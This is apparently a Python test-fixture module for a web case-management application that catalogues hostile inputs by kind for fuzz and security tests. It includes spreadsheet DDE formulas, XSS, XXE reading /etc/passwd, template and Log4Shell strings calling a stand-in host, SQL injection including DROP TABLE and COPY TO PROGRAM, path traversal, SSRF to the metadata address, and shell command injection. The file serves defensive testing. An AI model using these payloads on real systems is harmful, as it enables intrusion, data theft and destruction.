"""Bad input as data: kinds of it, each with what it is made of, and the places in a text at which it stands.

`items(kind)` are the kind's own; `EVERYTHING` is all of them. What is made of the request as a whole is shapes.py. Texts that try
to become part of a page say `ehx`, so that a test can look for an element or attribute of that name.
"""

import os
from functools import cache
from itertools import product
from zlib import crc32

Value = str | bytes  # bytes go out as they are; no text stands for them

MEGABYTE = 1_000_000
RIGHT_TO_LEFT = ["\u202etxt.exe", "שלום", "مرحبا"]
PLACES = ("{}", "Sam {}", "{} Sam", "Sam {} Sam")  # alone, at the end, at the beginning, inside
ALONE = ("{}",)


def _characters(*ranges: tuple[int, int]) -> list[str]:
    return [chr(code) for first, last in ranges for code in range(first, last + 1)]


FORMULAS = [  # what a spreadsheet may take for a formula, or passes on to one
    *("=1+1", "=1+1+cmd|' /C calc'!A0", "=cmd|' /C notepad'!A1", '=HYPERLINK("http://ehx.example","Open")'),
    *('=IMPORTXML("http://ehx.example","//a")', '=WEBSERVICE("http://ehx.example")', "=A1", "=SUM(A1:A9)"),
    *('=DDE("cmd";"/C calc";"x")', '=IMAGE("http://ehx.example")', '=EXEC("calc")', "=@SUM(1)", "==1", "= 1"),
    *("+1+1", "+cmd|' /C calc'!A0", "+A1", "+44 20 7946 0000", "+SUM(A1)", "-1+1", "-cmd|' /C calc'!A0", "-2", "-A1"),
    *("-SUM(A1)", "@SUM(1+1)", "@A1", "@cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\t+1", "\r\n@A1"),
    *("\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20A1"),
    *('"=1+1', "'=1+1", '";=1+1', ",=1+1", "x\n=1+1", "x\r=1+1", 'x","=1+1', "x;=1+1", "x\t=1+1", "|=1+1", "%0A=1+1"),
]

KINDS: dict[str, tuple[list[Value], tuple[str, ...]]] = {
    "nothing that a text can hold": (["\0", "\0\0", "a\0b", "\0" * 300, "%00", "\\0", "\\u0000", "&#0;"], PLACES),
    "control characters": (_characters((1, 8), (11, 12), (14, 31), (127, 159)), PLACES),
    "line ends": (["\r", "\n", "\r\n", "\n\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\r\n" * 200], PLACES),
    "half characters": (
        [chr(code) for code in (0xD800, 0xD801, 0xDBFF, 0xDC00, 0xDC80, 0xDFFF)] + ["\udc00\ud800", "\ud83d", "\ude00"],
        PLACES,
    ),
    "directions": (
        _characters((0x200E, 0x200F), (0x202A, 0x202E), (0x2066, 0x2069), (0x61C, 0x61C)) + RIGHT_TO_LEFT,
        PLACES,
    ),
    "what nobody sees": (
        [
            *("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e", "\u115f", "\u3164"),
            *("\ufe0f", "\U000e0041", "\u2800", "\uffa0"),
        ],
        PLACES,
    ),
    "blanks": (
        [" ", "   ", "\t", "\u00a0", "\u2003", "\u3000", "\u2009", "\u1680", "\u205f", " \t\u00a0\u200b", " " * 400],
        PLACES,
    ),
    "odd characters": (
        [
            *("\ufffe", "\uffff", "\U0010ffff", "\ue000", "\U000f0000", "\ufffd", "\ufdd0", "😀", "👨‍👩‍👧‍👦", "🇬🇧", "𝒮𝒶𝓂"),
            *("S" + "\u0301" * 100, "Z\u0351\u036b\u0343" * 40, "é", "e\u0301", "Å", "Å", "ß", "ẞ", "İ", "ı", "ﬃ", "ﷺ" * 50),
            *("ſ", "Ω", "K", "ŉ", "ᾳ", "ΐ", "½", "²", "①", "㎏", "㍻", "ｓａｍ", "Ｓ", "аdmin", "ꓢаm"),
        ],
        PLACES,
    ),
    "long": (
        [sign * size for sign in ("a", "é", "😀", "9", "a ", "a\n", "<", "&", "'", "\u0301") for size in (201, 501, 4_001, 20_001)],
        PLACES,
    ),
    "a megabyte": (
        [sign * (MEGABYTE // len(sign.encode())) for sign in ("a", "é", "a b\n", "<", " ", "9", "&amp;", "\u0301", "(", "\n", "-", "0")],
        ALONE,
    ),
    "numbers": (
        [
            *("-1", "0", "-0", "00", "01", "1.5", "1,5", "1e3", "1e400", "-1e400", "NaN", "inf", "-inf", "Infinity", "0x10"),
            *("0b1", "0o7", "1_000", "1 000", "1,000", "١٢", "１２", "²", "Ⅻ", "½", "1e-400", "+1", "--1", "1-", "1.", ".1"),
            *("1" + "0" * n for n in (2, 3, 4, 5, 9, 10, 18, 19, 25, 38, 39, 100, 400, 4299, 4301, 9000)),
            *(str(2**n + more) for n in (7, 8, 15, 16, 31, 32, 53, 63, 64) for more in (-1, 0, 1)),
            *(str(-(2**n)) for n in (31, 32, 63, 64)),
        ],
        ALONE,
    ),
    "days": (
        [
            *("31/2/2026", "30/2/2028", "29/2/2027", "29/2/1900", "31/4/2026", "0/1/2026", "1/0/2026", "32/1/2026", "1/13/2026"),
            *("1/1/0", "1/1/0000", "1/1/1", "1/1/26", "1/1/1899", "1/1/2200", "1/1/9999", "1/1/10000", "1/1/99999999999"),
            *("-1/1/2026", "1/-1/2026", "1/1/-2026", "1.5/1/2026", "1e1/1/2026", "+1/1/2026", " / / ", "1//", "/1/", "//2026"),
            *("a/b/c", "١/١/٢٠٢٦", "１/１/２０２６", "²/1/2026", "29/3/2026", "25/10/2026", "1/1/2026 24:00", "0/0/0", "00/00/0000"),
            *("99999999999999999999/1/2026", "1/99999999999999999999/2026", "NaN/NaN/NaN", "1/1/2026T00:00:00Z", "2026-02-31"),
            *("2026-13-01", "2026-W54-1", "2026-366", "31-02-2026", "tomorrow", "never", "2/31/2026", "0001-01-01", "9999-12-31"),
            *("24:00", "25:61", "-1:00", "23:59:60", "99:99"),
        ],
        ALONE,
    ),
    "formulas": (list(FORMULAS), PLACES),
    "HTML": (
        [
            *("<ehx>", "<script>ehx()</script>", '"><ehx>', "'><ehx>", '" ehx="1', "' ehx='1", " ehx=1 ", "</textarea><ehx>"),
            *("</title><ehx>", "</script><ehx>", "</option></select><ehx>", "</style><ehx>", "--><ehx>", "]]><ehx>", "</p><ehx>"),
            *("<img src=x ehx=1 onerror=ehx()>", "<svg/ehx=1 onload=ehx()>", "<iframe srcdoc='<ehx>'>", "<!--<ehx>", "<a ehx=1>"),
            *("&lt;ehx&gt;", "&#60;ehx&#62;", "&#x3c;ehx>", "\\x3cehx\\x3e", "\\u003cehx\\u003e", "%3Cehx%3E", "+ADw-ehx+AD4-"),
            *("<scr\0ipt>ehx</script>", "<\u200behx>", "＜ehx＞", "<<ehx>>", "<ehx/ehx=1>", "<math><mtext><ehx>", "<base ehx=1>"),
            *("javascript:ehx()", "JaVaScRiPt:ehx()", "java\tscript:ehx()", "data:text/html,<ehx>", "vbscript:ehx", "[x](javascript:ehx)"),
            *("<meta http-equiv=refresh ehx=1>", "<form ehx=1>", "<input ehx=1 autofocus onfocus=ehx()>", "<style>ehx{}</style>"),
            *("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>", "<![CDATA[<ehx>]]>"),
            *("<template><ehx></template>", "<noscript><p title='</noscript><ehx>'>", "&", "&amp;", "&amp;amp;", "&nbsp", "&#"),
        ],
        PLACES,
    ),
    "templates": (
        [
            *("{{ 99799800|add:11 }}", "{{9973*10007}}", "{% ehx %}", "{% load ehx %}", "{% include 'base.html' %}", "{% debug %}", "{#"),
            *("{{ settings.SECRET_KEY }}", "{{ request.user.password }}", "{{", "}}", "{%", "%}", "{{ ''.__class__ }}", "{{''}}"),
            *("${9973*10007}", "#{9973*10007}", "<%= 9973*10007 %>", "{0}", "{0.__class__}", "{__class__}", "{name!r:>99999999}", "%s", "%(a)s"),
            *("%n%n%n", "%99999999s", "%c", "$name", "${name}", "${jndi:ldap://ehx.example/a}", "{{=<% %>=}}", "@(9973*10007)", "*{9973*10007}"),
        ],
        PLACES,
    ),
    "SQL": (
        [
            *("'", '"', "''", "\\", "\\'", "' OR '1'='1", "' OR 1=1--", "1 OR 1=1", "'; SELECT pg_sleep(9)--", "1;SELECT pg_sleep(9)"),
            *("'||pg_sleep(9)||'", "' AND 1=(SELECT 1 FROM pg_sleep(9))--", "$$", "$a$", "';DROP TABLE cases_case;--", "/*", "*/"),
            *("' UNION SELECT NULL--", "%", "_", "%%", "%'", "\\%", "E'\\x41'", "U&'\\0041'", "$1", ":name", "?", "??", "@>", "::int"),
            *("COPY x TO PROGRAM 'id'", "'; SET ROLE postgres--", "'||set_config('earlyhelp.user','1',true)||'", "NULL", "DEFAULT"),
            *("(SELECT 1)", "' AND '1'='2", "1/0", "'/0", "1' ORDER BY 99--", "' LIKE '%", "'; COMMIT--", "'; ROLLBACK--"),
        ],
        PLACES,
    ),
    "paths": (
        [
            *("../../../etc/passwd", "..", ".", "/", "//", "\\", "..\\..\\windows\\win.ini", "%2e%2e%2f", "%252e%252e", "....//"),
            *("/etc/passwd", "file:///etc/passwd", "C:\\", "\\\\ehx.example\\share", "http://169.254.169.254/", "http://ehx.example"),
            *("//ehx.example", "/\\ehx.example", "https:ehx.example", "http://user:pass@ehx.example", "CON", "NUL.txt", "a.php%00.png"),
            *("~", "~root", "a/b", "a//b", "?a=b", "#a", ";a=b", "a&b=c", "%", "%zz", "%u0041", "%c0%af", "..%c0%af", "..;/", "%2f"),
        ],
        PLACES,
    ),
    "header and log lines": (
        [
            *("a\r\nSet-Cookie: ehx=1", "a\nLocation: //ehx.example", "a\r\n\r\n<ehx>", "%0d%0aSet-Cookie:ehx=1", "a\u560d\u560aehx: 1"),
            *("a\nBcc: ehx@ehx.example", "sam@ehx.example\r\nBcc: a@b.c", '{"event": "ehx"}', "\n{\"event\": \"ehx\"}", "\x1b[2J\x1b[31m"),
            *("a@b", "a@b.c,d@e.f", '"a b"@c.d', "a@[127.0.0.1]", "a@" + "b" * 300 + ".c", "@", "a@b@c.d", "аdmin@b.c", "a@b.c\0"),
        ],
        PLACES,
    ),
    "commands": (
        ["; id", "| id", "`id`", "$(id)", "&& id", "|| id", "\nid\n", "> /tmp/ehx", "-rf", "--help", "{a,b}", "*", "!!", "$HOME", "%PATH%"],
        PLACES,
    ),
    "other languages": (
        [
            *("*)(uid=*", "*)(|(a=*", "' or '1'='1' or ''='", '{"$gt": ""}', '{"$ne": null}', '{"$where": "1"}', "//*", "count(//a)"),
            *("a AND b", "a | b & !c", "a <-> b", "a:*", "!", "(((", ")))", "a:B", "'a' & 'b", "__class__", "id__in", "_connector"),
            *("user__password__startswith", "-pk", "?", "pk", "__all__", "constructor", "__proto__", "toString", "hasOwnProperty"),
            *("(a+)+$", "(" * 500, "[" * 500, "\\" * 501, "a" * 60 + "!", "a" * 200 + "@", "a." * 200, ("(a|a)*" * 30), "\\p{L}"),
        ],
        PLACES,
    ),
    "JSON": (
        [
            *("[", "{", "]", "[]", "{}", "[[]]", '{"a":1}', '{"a":1,"a":2}', '{"":""}', "[1,]", "{'a':1}", '"', '"\\ud800"', '"\\u0000"'),
            *("1e999", "-1e999", "NaN", '{"__class__":"x"}', '{"key":' + "9" * 5000 + "}", '{"id":[],"type":{}}', "[null]", "[[[[[]]]]]"),
            *("[" * n for n in (500, 1_500, 30_000, 90_000)),
            *("[" * n + "]" * n for n in (500, 1_500, 30_000, 45_000)),
            *('{"a":' * n + "1" + "}" * n for n in (500, 1_500, 10_000)),
            *(f'{{"id":"{one}","rawId":"{one}","type":"public-key","response":{{}}}}' for one in ("", "AA", "=", "ehx", "é")),
        ],
        ALONE,
    ),
    "other kinds of value": (
        [
            *("null", "None", "true", "false", "True", "on", "off", "yes", "no", "undefined", "[object Object]", "NULL", "nil", "void"),
            *("[]", "()", "{}", "''", "0", "1", "lambda: 0", "<class 'str'>", "b'a'", "self", "all", "any", "new", "others", "me"),
            *("2026-01-01", "12:00", "£5", "50%", "#fff", "a,b", "a;b", "a|b", "a=b", "a&b", "a+b"),
        ],
        ALONE,
    ),
    "keys": (
        [
            *("00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "0190a0a0-0000-7000-8000-000000000007"),
            *("{0190a0a0-0000-7000-8000-000000000007}", "urn:uuid:0190a0a0-0000-7000-8000-000000000007", "0190a0a000007000800000000007"),
            *("0190A0A0-0000-7000-8000-000000000007", "0" * 31, "0" * 33, "g" * 32, "0190a0a0_0000_7000_8000_000000000007", "-" * 36),
            *("٠" * 32, "０" * 32, "0190a0a0-0000-7000-8000-00000000000é", "EH-0000000", "EH-2222222", "eh-2222222", "EH-", "EH-" + "2" * 300),
            *("2026-11-01T00:00:00+00:00_0190a0a0-0000-7000-8000-000000000007", "0001-01-01T00:00:00+14:00_" + "0" * 32, "_", "__"),
            *("9999-12-31T23:59:59-14:00_" + "f" * 32, "2026-11-01_x", "2026-11-01T00:00:00_" + "0" * 32, "x" * 43, "x.y.z", "x:y:z"),
            *("gAAAAAB" + "A" * 93, "eyJhbGciOiJub25lIn0.e30.", "=" * 44, "AAAA====", "-1_-1", "2026-11-01T00:00:00+99:99_" + "0" * 32),
        ],
        PLACES,
    ),
    "broken UTF-8": (
        [
            *(b"\xff", b"\xfe\xff", b"\xff\xfe", b"\xc0\x80", b"\xc0\xaf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf", b"\xed\xa0\x80"),
            *(b"\xed\xbf\xbf", b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\x80", b"\xbf" * 9, b"\xc3", b"\xe2\x82", b"\xf0\x9f\x98"),
            *(b"caf\xe9", b"\x93Sam\x94", b"\xa35", b"Sam\xff\xfeSam", b"\xef\xbb\xbfSam", b"\xef\xbf\xbe", b"S\0a\0m\0", b"\0S\0a\0m"),
        ],
        ALONE,
    ),
}  # fmt: skip
UNTYPEABLE = {"broken UTF-8", "half characters"}  # no browser sends them: they need not come back as they went


@cache
def items(kind: str) -> tuple[Value, ...]:
    """Every item of a kind, each once."""
    made_of, places = KINDS[kind]
    return tuple(dict.fromkeys(_put(value, place) for place, value in product(places, made_of)))


def _put(value: Value, place: str) -> Value:
    if isinstance(value, bytes):
        return value
    before, after = place.split("{}")
    return before + value + after


EVERYTHING: tuple[tuple[str, Value], ...] = tuple((kind, item) for kind in KINDS for item in items(kind))


WHOLE = os.environ.get("HOSTILE") == "whole"
SHARE = 4


def kinds_for(place: str) -> list[str]:
    """The kinds that a place meets: all of them in `make hostile`; in `make test` every fourth, from another one on for each place, so
    that each kind meets a quarter of all places at every run.
    """
    return list(KINDS) if WHOLE else list(KINDS)[crc32(place.encode()) % SHARE :: SHARE]
